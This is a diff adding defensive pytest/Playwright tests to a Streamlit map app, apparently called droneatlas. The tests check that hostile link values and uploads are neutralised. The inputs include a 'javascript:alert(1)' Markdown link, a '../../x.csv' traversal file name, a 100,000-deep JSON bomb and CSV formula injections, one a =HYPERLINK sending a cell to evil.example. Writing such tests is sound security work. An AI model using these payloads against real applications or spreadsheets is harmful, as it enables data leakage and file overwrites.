@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import re
+from pathlib import Path
 from urllib.parse import parse_qs, urlsplit
 
 import pytest
@@ -51,6 +52,31 @@ def test_invalid_link_values_are_ignored_with_a_notice(app_server, offline_page)
     page.get_by_text(re.compile(r"Link: ignored start=")).first.wait_for(timeout=20_000)
     assert offline_page.layer_counts()["sites"] > 0
     assert offline_page.errors == []
+
+
+def test_hostile_link_values_are_shown_literally_in_streamlit_text(app_server, offline_page) -> None:
+    """A link's values reach Streamlit markdown (the notice) and the title: Markdown, LaTeX,
+    HTML and entities from tests/hostile.py are shown as written, never rendered or run."""
+    from urllib.parse import quote
+
+    from tests.hostile import LATEX, MARKDOWN
+
+    start = "**b** $x^2$ :red[r] [l](javascript:alert(1)) &lt;b&gt; <i>"
+    title = LATEX[1] + " " + MARKDOWN[0]
+    page = offline_page.page
+    # A toast goes after a few seconds: read it as it comes, not after the map is drawn.
+    page.goto(app_server.url + f"?start={quote(start)}&title={quote(title)}")
+    toast = page.get_by_text(re.compile(r"^Link: ignored start=")).first
+    toast.wait_for(timeout=120_000)
+    rendered = "[data-testid=stToast] :is(strong, em, a, img, i, b, .katex, span[class*=color])"
+    assert (toast.inner_text(), page.locator(rendered).count()) == (
+        f"Link: ignored start={start[:40]!r}: not a date YYYY-MM-DD",
+        0,
+    )
+    offline_page.open_map(app_server.url + f"?title={quote(title)}")
+    page.get_by_text("Share and export this view").click()
+    assert page.get_by_label("Title").input_value() == title
+    assert offline_page.dialogs == [] and offline_page.errors == []
 
 
 def test_downloaded_html_opens_from_disk_with_no_network(app_server, offline_page, browser, tmp_path) -> None:
@@ -101,3 +127,72 @@ def test_add_data_upload_imports_and_reports(app_server, offline_page, tmp_path)
     page.get_by_text(re.compile(r"read 2, accepted 1, rejected 1")).first.wait_for(timeout=60_000)
     page.get_by_text(re.compile(rf"^{before + 1} strikes · ")).first.wait_for(timeout=30_000)
     assert offline_page.errors == [] and offline_page.foreign_requests == []
+
+
+def test_add_data_gives_each_hostile_upload_a_message_and_writes_only_its_own_directory(
+    browser, tmp_path
+) -> None:
+    """A name with folders, JSON 100,000 deep, polygons only and formulas, uploaded at once:
+    one line each on the page (kept after the import's rerun), no traceback, a report with
+    no formula, and nothing written outside the session's upload directory."""
+    import csv
+    import io
+
+    from harness import AppServer
+    from tests.conftest import PROJECT_DATA
+    from tests.hostile import runs_as_formula
+
+    url = "https://example.org/a"
+    polygon = {"type": "Polygon", "coordinates": [[[30, 50], [31, 50], [31, 51], [30, 50]]]}
+    uploads = {
+        "../../x.csv": f"lat,lon,date,source_url\n50.4,30.5,2022-10-17,{url}\n",
+        "deep.json": "[" * 100_000 + "]" * 100_000,
+        "polygons.geojson": json.dumps(
+            {
+                "type": "FeatureCollection",
+                "features": [{"type": "Feature", "geometry": polygon, "properties": {}}],
+            }
+        ),
+        "=cmd.csv": "id,lat,lon,date,source_url,place\n"
+        f"=1+1,50.4,30.5,bad,{url},x\n"
+        f'f1,50.4,30.5,2022-10-17,{url},"=HYPERLINK(""http://evil.example/?""&A1,""Click"")"\n',
+    }
+    temp = tmp_path / "server" / "tmp"  # the server's temporary folder, two levels down
+    temp.mkdir(parents=True)
+    server = AppServer(PROJECT_DATA, {"TMPDIR": str(temp)})
+    page = OfflinePage(browser)
+    try:
+        page.open_map(server.url)
+        p = page.page
+        p.get_by_text("Add data: CSV or GeoJSON").click()
+        payloads = [{"name": n, "mimeType": "text/plain", "buffer": t.encode()} for n, t in uploads.items()]
+        p.locator('[data-testid="stFileUploaderDropzoneInput"]').set_input_files(payloads)
+        p.get_by_text("polygons.geojson").first.wait_for(timeout=30_000)  # the uploads are listed
+        p.get_by_role("button", name="Import").click()
+        report = p.locator("pre").filter(has_text="total: read 2, accepted 1, rejected 1").first
+        report.wait_for(timeout=120_000)
+        text = report.inner_text()
+        assert (
+            "refused: '../../x.csv' is not a plain file name (no folders, no '..'): rename the file" in text
+        )
+        assert "deep.json [geojson]: read 0, accepted 0, rejected 0" in text
+        assert "error: JSON nested too deeply to read (arrays or objects inside each other)" in text
+        assert "error: no Point features (found 1 Polygon): the atlas imports points only" in text
+        assert "Traceback" not in p.locator("body").inner_text() and page.errors == []
+        with p.expect_download(timeout=60_000) as download:
+            p.get_by_role("button", name="Download the full import report (CSV)").click()
+        rows = list(csv.reader(io.StringIO(Path(download.value.path()).read_text(encoding="utf-8"))))
+        assert [cell for row in rows for cell in row if runs_as_formula(cell)] == []
+        assert [
+            "'=cmd.csv",
+            "2",
+            "rejected",
+            "date not understood: bad",
+            f"'=1+1,50.4,30.5,bad,{url},x",
+        ] in rows
+    finally:
+        page.close()
+        server.stop()
+    written = [p for p in tmp_path.rglob("*") if p.is_file()]
+    assert written and all(p.relative_to(temp).parts[0].startswith("droneatlas-upload-") for p in written)
+    assert not any(p.name == "x.csv" for p in tmp_path.rglob("*"))
